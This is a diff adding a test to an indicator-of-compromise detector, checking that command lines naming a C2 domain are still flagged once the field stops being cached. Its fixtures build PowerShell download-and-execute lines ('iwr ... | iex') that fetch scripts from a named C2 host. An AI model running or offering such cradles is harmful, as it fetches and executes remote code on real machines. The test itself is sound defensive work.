@@ -80,3 +80,22 @@ test('the remembered values stay within the memory budget, and findings stay the
   assert.equal(seen({ CommandLine: hit }), 1, 'a forgotten value is scanned again with the same result');
   assert.equal(seen({ CommandLine: hit }), 1);
 });
+
+test('a field whose values seldom repeat is scanned directly, with the same findings', () => {
+  const d = new IocDetector(INDICATORS);
+  const findings = (fields: EventFields): string[] => {
+    const out: Finding[] = [];
+    d.examine(event(fields), (f) => out.push(f));
+    return summary(out);
+  };
+  // 5,000 distinct command lines (the field stops being remembered), every seventh reaching the C2 name.
+  for (let i = 0; i < 5000; i++) {
+    const cmd = `powershell -nop -c "iwr http://${i % 7 === 0 ? 'asyspy256.ddns.net' : `cdn${i}.example.net`}/p${i}.ps1 | iex"`;
+    const got = findings({ CommandLine: cmd, Image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe' });
+    assert.deepEqual(got, i % 7 === 0 ? [`ioc:domain:asyspy256.ddns.net CommandLine=${cmd} indicator=asyspy256.ddns.net`] : [], cmd);
+  }
+  // Then the same few values again and again: found every time.
+  for (let i = 0; i < 300; i++) {
+    assert.deepEqual(findings({ CommandLine: 'ping -n 1 asyspy256.ddns.net' }), ['ioc:domain:asyspy256.ddns.net CommandLine=ping -n 1 asyspy256.ddns.net indicator=asyspy256.ddns.net']);
+  }
+});
